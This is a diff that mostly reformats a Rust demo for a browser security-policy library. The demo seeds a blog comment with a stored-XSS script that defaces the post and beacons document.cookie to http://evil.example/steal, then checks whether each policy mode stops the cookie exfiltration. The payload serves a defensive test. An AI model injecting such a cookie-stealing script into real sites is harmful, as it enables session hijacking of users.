@@ -16,17 +16,20 @@ fn main() {
     // payload reaches the page verbatim — the browser is the last line of defense).
     let blog = BlogApp::new();
     let state = blog.state();
-    state.borrow_mut().comments.push(escudo::apps::blog::Comment {
-        id: 1,
-        author: "mallory".to_string(),
-        body: "<script>\
+    state
+        .borrow_mut()
+        .comments
+        .push(escudo::apps::blog::Comment {
+            id: 1,
+            author: "mallory".to_string(),
+            body: "<script>\
                document.getElementById('post-body').innerHTML = 'buy cheap pills';\
                var beacon = document.createElement('img');\
                beacon.setAttribute('src', 'http://evil.example/steal?c=' + document.cookie);\
                document.body.appendChild(beacon);\
                </script>"
-            .to_string(),
-    });
+                .to_string(),
+        });
 
     for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
         println!("== loading the blog under {mode} ==");
@@ -34,7 +37,10 @@ fn main() {
         // Each browser gets its own copy of the application state so the two runs are
         // independent.
         let blog = BlogApp::new();
-        blog.state().borrow_mut().comments.clone_from(&state.borrow().comments);
+        blog.state()
+            .borrow_mut()
+            .comments
+            .clone_from(&state.borrow().comments);
         browser.network_mut().register("http://blog.example", blog);
         browser
             .network_mut()
@@ -42,12 +48,20 @@ fn main() {
                 escudo::net::Response::ok_text("logged")
             });
 
-        browser.navigate("http://blog.example/login?user=reader").unwrap();
+        browser
+            .navigate("http://blog.example/login?user=reader")
+            .unwrap();
         let page = browser.navigate("http://blog.example/").unwrap();
 
         let post = browser.page(page).text_of("post-body").unwrap_or_default();
         println!("  post body ........... {post:?}");
-        println!("  ad slot ............. {:?}", browser.page(page).text_of("ad-slot-text").unwrap_or_default());
+        println!(
+            "  ad slot ............. {:?}",
+            browser
+                .page(page)
+                .text_of("ad-slot-text")
+                .unwrap_or_default()
+        );
         for outcome in &browser.page(page).script_outcomes {
             println!(
                 "  script in {:<8} -> {}",
@@ -64,7 +78,11 @@ fn main() {
             .iter()
             .any(|r| r.url.query().contains("blog_session"));
         println!("  session cookie exfiltrated? {exfiltrated}");
-        println!("  reference monitor: {} checks, {} denials", browser.erm().checks(), browser.erm().denials());
+        println!(
+            "  reference monitor: {} checks, {} denials",
+            browser.erm().checks(),
+            browser.erm().denials()
+        );
         println!();
     }
 
